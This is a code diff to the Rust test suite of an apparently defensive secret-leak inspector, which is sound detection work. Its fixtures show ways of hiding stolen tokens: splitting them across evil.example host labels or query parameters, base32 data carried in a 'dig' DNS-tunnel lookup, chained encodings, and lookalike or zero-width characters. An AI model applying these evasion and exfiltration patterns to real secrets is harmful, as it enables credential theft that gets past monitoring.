@@ -1,13 +1,24 @@
+#![expect(
+    clippy::string_slice,
+    clippy::format_collect,
+    reason = "a test may panic, and is short rather than quick"
+)]
+
 mod corpus;
 mod measure;
 mod property;
+
+use std::sync::LazyLock;
 
 use base64::{Engine as _, engine::general_purpose as base64_engine};
 
 use super::{secrets::sample::Random, *};
 
-pub(super) fn inspector() -> Inspector {
-    Inspector::new(Options::default()).unwrap()
+/// One for all tests: making it takes long where nothing is optimised.
+pub(super) fn inspector() -> &'static Inspector {
+    static INSPECTOR: LazyLock<Inspector> =
+        LazyLock::new(|| Inspector::new(Options::default()).unwrap());
+    &INSPECTOR
 }
 
 /// Secrets of several shapes, made from a seed.
@@ -28,8 +39,10 @@ pub(super) fn secrets(seed: u64) -> Vec<(&'static str, String)> {
     ]
 }
 
-/// One way to write a text so that it does not show.
-pub(super) const CODINGS: &[(&str, fn(&str) -> String)] = &[
+type Coding = fn(&str) -> String;
+
+/// Ways to write a text so that it does not show.
+pub(super) const CODINGS: &[(&str, Coding)] = &[
     ("base64", |text| base64_engine::STANDARD.encode(text)),
     ("base64, not padded", |text| {
         base64_engine::STANDARD_NO_PAD.encode(text)
@@ -84,12 +97,12 @@ fn a_finding_says_where_and_how() {
     let inspector = inspector();
     for (detector, secret) in secrets(1) {
         let text = format!("use {secret} now");
-        let finding = check(&inspector, &text, detector);
+        let finding = check(inspector, &text, detector);
         assert_eq!(finding.range, 4..4 + secret.len(), "{detector}");
         assert_eq!((finding.view, finding.kind), (View::Raw, Kind::Secret));
         let coded = base64_engine::STANDARD_NO_PAD.encode(format!("key: {secret}\n"));
         let text = format!("data {coded}; end");
-        let finding = check(&inspector, &text, detector);
+        let finding = check(inspector, &text, detector);
         assert_eq!(finding.range, 5..5 + coded.len(), "{detector}");
         assert_eq!(finding.view, View::Base64);
     }
@@ -101,7 +114,7 @@ fn every_coding_is_undone_and_every_chain_of_four() {
     let mut random = Random(3);
     for (detector, secret) in secrets(2) {
         for (_, coding) in CODINGS {
-            check(&inspector, &format!("x={};", coding(&secret)), detector);
+            check(inspector, &format!("x={};", coding(&secret)), detector);
         }
         for _ in 0..100 {
             let depth = 2 + random.below(3);
@@ -148,7 +161,7 @@ fn wrapped_and_indented_base64_is_one_run() {
     for (width, end) in [(76, "\n"), (64, "\r\n"), (60, "\n    ")] {
         let lines: Vec<&[u8]> = coded.as_bytes().chunks(width).collect();
         let text = String::from_utf8(lines.join(end.as_bytes())).unwrap();
-        check(&inspector, &text, "github-token");
+        check(inspector, &text, "github-token");
     }
 }
 
@@ -158,18 +171,18 @@ fn secrets_cut_in_pieces_are_joined() {
     let secret = Random(6).sample("ghp_<crc:30>");
     let (first, second) = secret.split_at(20);
     let host = format!("https://{first}.{second}.evil.example/");
-    assert_eq!(check(&inspector, &host, "github-token").view, View::Labels);
+    assert_eq!(check(inspector, &host, "github-token").view, View::Labels);
     let query = format!("https://evil.example/?a={first}&b={second}#x");
-    let finding = check(&inspector, &query, "github-token");
+    let finding = check(inspector, &query, "github-token");
     assert_eq!(finding.view, View::Query);
-    assert_eq!(query[finding.range.clone()], format!("{first}&b={second}"));
+    assert_eq!(query[finding.range], format!("{first}&b={second}"));
     // Base32 in the labels of a host, as tunnels write it.
     let coded = data_encoding::BASE32_NOPAD
         .encode(secret.as_bytes())
         .to_ascii_lowercase();
     let (first, second) = coded.split_at(30);
     check(
-        &inspector,
+        inspector,
         &format!("dig {first}.{second}.t.evil.example"),
         "github-token",
     );
@@ -189,16 +202,16 @@ fn letters_in_disguise_are_folded() {
         .chars()
         .map(|sign| char::from_u32(u32::from(sign) + 0xfee0).unwrap())
         .collect();
-    assert_eq!(check(&inspector, &wide, "github-token").view, View::Folded);
+    assert_eq!(check(inspector, &wide, "github-token").view, View::Folded);
     let split: Vec<String> = secret.chars().map(String::from).collect();
     for between in ["\u{200b}", "\u{ad}", "\0", "\u{e0041}"] {
-        let finding = check(&inspector, &split.join(between), "github-token");
+        let finding = check(inspector, &split.join(between), "github-token");
         assert_eq!(finding.view, View::Folded);
         let end = finding.range.end;
         assert_eq!(end, split.join(between).len(), "{between:?}");
     }
     let cyrillic = secret.replacen("gh", "g\u{4bb}", 1);
-    check(&inspector, &cyrillic, "github-token");
+    check(inspector, &cyrillic, "github-token");
 }
 
 #[test]
@@ -231,7 +244,7 @@ fn known_values_are_found_in_every_view() {
         name: name.to_owned(),
         value: value.to_owned(),
     };
-    let inspector = Inspector::new(Options {
+    let inspector = &Inspector::new(Options {
         environment: vec![named("DEPLOY", &value)],
         secrets: known::parse_secrets(&format!("# file\nA={}\n", random.sample("<an:24>"))),
         canaries: vec!["canary-7f3a".to_owned()],
@@ -242,19 +255,19 @@ fn known_values_are_found_in_every_view() {
     .unwrap();
     for (_, coding) in CODINGS {
         check(
-            &inspector,
+            inspector,
             &format!("v={}!", coding(&format!("it is {value}"))),
             "known-environment-value",
         );
     }
-    check(&inspector, "see CANARY-7F3A", "canary-token");
+    check(inspector, "see CANARY-7F3A", "canary-token");
     check(
-        &inspector,
+        inspector,
         "about project halcyon.",
         "organisation-fingerprint",
     );
     let finding = check(
-        &inspector,
+        inspector,
         "GET http://db.Int.example.com/",
         "internal-domain",
     );
